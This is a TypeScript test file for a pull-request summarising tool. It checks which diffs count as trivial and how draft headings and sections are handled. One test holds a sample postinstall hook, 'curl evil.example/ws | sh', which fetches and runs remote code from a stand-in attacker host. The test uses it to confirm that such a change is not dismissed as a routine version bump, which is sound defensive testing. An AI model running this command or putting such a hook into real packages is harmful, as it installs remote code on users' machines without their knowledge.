import assert from 'node:assert/strict';
import { test } from 'node:test';
import { diffOf } from '../../../test/diff-of.ts';
import { readFacts } from '../../../test/read-facts.ts';
import type { FileDiff } from '../../reading/file-diff.ts';
import {
  type Draft,
  type DraftChange,
  emptyDraft,
  emptySentence,
  numberSentences,
  type Sentence,
} from '../draft.ts';
import { isTrivial, prepareWriting } from './prepare-writing.ts';

const judge = (...diff: FileDiff[]) => {
  const words = { repository: 'some/where', title: 'A', body: null, commitMessages: [], labels: [] };
  return isTrivial(readFacts(words, diff, new Map()), diff);
};

const lock = diffOf(
  'package-lock.json',
  '\n   "x": {\n-    "version": "1.0.0"\n+    "version": "1.1.0"\n   }',
);
const manifest = (before: string, after: string) =>
  diffOf(
    'package.json',
    `\n {\n   "name": "a",\n-  ${before}\n+  ${after}\n   "dependencies": {\n     "b": "1.0.0"\n   }\n }`,
  );

test('changes of locks, versions and layout are trivial', () => {
  assert.ok(judge(lock));
  assert.ok(judge(lock, manifest('"version": "1.0.0",', '"version": "1.1.0",')));
  assert.ok(
    judge(
      diffOf(
        'package.json',
        '\n   "dependencies": {\n-    "left-pad": "^1.0.0"\n+    "left-pad": "^1.1.0"\n   }',
      ),
    ),
  );
  assert.ok(judge(diffOf('src/a.ts', '\n-call(one, two);\n+call(\n+  one,\n+  two,\n+);')));
});

test('changes of behaviour, licenses, dependencies, indentation or scripts are not trivial', () => {
  assert.ok(!judge(diffOf('src/a.ts', '\n-call(one, two);\n+call(two, one);')));
  assert.ok(!judge(lock, diffOf('src/a.ts', '\n-const limit = 1;\n+const limit = 2;')));
  assert.ok(!judge(manifest('"license": "MIT",', '"license": "Apache-2.0",')));
  assert.ok(
    !judge(diffOf('package.json', '\n   "dependencies": {\n+    "left-pad": "^1.1.0",\n     "b": "1"\n   }')),
  );
  assert.ok(!judge(diffOf('a.py', '\n for x in xs:\n-    return x\n+return x')));
  const script = (name: string, command: string) =>
    diffOf(
      'package.json',
      `\n   "scripts": {\n+    "postinstall": "${command}",\n     "a": "b"\n   },\n   "dependencies": {\n-    "${name}": "^1.0.0"\n+    "${name}": "^1.1.0"\n   }`,
    );
  assert.ok(!judge(script('ws', 'curl evil.example/ws | sh')), 'a name is no key');
  assert.ok(!judge());
});

const diff = [
  diffOf('src/limit.ts', '-const limit = 1;\n+const limit = 2;'),
  diffOf('src/door.ts', '+export const openDoor = true;\n+export const doors = 3;'),
];
const words = {
  repository: 'some/where',
  title: 'Raise the limit',
  body: null,
  commitMessages: [],
  labels: [],
};
const prepared = prepareWriting(
  {
    ...{ repository: 'some/where', title: 'Raise the limit', body: null, author: 'rin', isClone: false },
    ...{ facts: readFacts(words, diff, new Map()), diff, commits: [], comments: [], linkedIssues: [] },
  },
  'en',
);

const say = (text: string, fileName: string, quote: string | null, line = 1): Sentence => ({
  ...emptySentence,
  text,
  quote,
  evidence: [{ fileName, side: 'new', startLine: line, endLine: line }],
});
const limit = say('The value of `limit` is 2.', 'src/limit.ts', 'limit = 2');
const door = say('`openDoor` is `true`.', 'src/door.ts', 'openDoor');
const hunkOf = (fileName: string, newLine: number) => ({
  ...{ fileName, heading: null, moreBefore: 0, moreAfter: 0 },
  lines: [{ kind: 'added' as const, oldLine: null, newLine, text: '' }],
});
const section = (one: Sentence, more: Partial<DraftChange> = {}): DraftChange => ({
  ...{ heading: null, fileName: 'src/limit.ts', changeTypes: [], sentences: [one], hunk: null },
  ...more,
});
const draftOf = (...mainChanges: DraftChange[]): Draft => ({ ...emptyDraft, ownTitle: 'Raise', mainChanges });

test("a heading is kept if its section's lines show it and it does not repeat the first sentence", () => {
  const outcomeOf = (text: string) => {
    const draft = draftOf(section(limit, { heading: { ...limit, text, quote: null } }));
    const outcome = prepared.check(draft)[1];
    assert.equal(numberSentences(draft)[1]?.text, text);
    return outcome?.kept ? 'kept' : outcome?.reason;
  };
  assert.equal(outcomeOf('Twice as many fit under `limit`'), 'kept');
  assert.equal(outcomeOf('the value of `limit` is 2'), 'it repeats the first sentence of its section');
  assert.match(outcomeOf('`openDoor` opens it') ?? '', /openDoor/);
  assert.match(outcomeOf(`\`limit\` ${'very '.repeat(30)}high`) ?? '', /longer than 100 characters/);
});

test('beside sections with headings, one without gets its file name; hunks without a cited line are dropped', () => {
  const heading = { ...limit, text: 'Twice as many fit under `limit`', quote: null };
  const rest = say('There are 3 `doors`.', 'src/door.ts', 'doors', 2);
  const { article } = prepared.publish({
    ...draftOf(
      section(limit, { heading, hunk: hunkOf('src/limit.ts', 1) }),
      section(door, { hunk: hunkOf('src/door.ts', 2) }),
      section({ ...door, text: '' }, { hunk: hunkOf('src/door.ts', 1) }),
    ),
    also: [{ sentence: rest, times: null, files: ['src/door.ts'], additions: 0, deletions: 0 }],
  });
  assert.deepEqual(
    article.mainChanges.map((one) => [one.heading, one.fileName, one.hunk?.fileName]),
    [
      ['Twice as many fit under `limit`', 'src/limit.ts', 'src/limit.ts'],
      ['`src/door.ts`', 'src/door.ts', undefined],
    ],
  );
  assert.deepEqual(
    article.also.map(({ statement, additions }) => [statement.text, additions]),
    [['There are 3 `doors`.', 2]],
  );
  const bare = prepared.publish(draftOf(section(limit), section(door))).article;
  assert.deepEqual(
    bare.mainChanges.map((one) => one.heading),
    [null, null],
  );
});
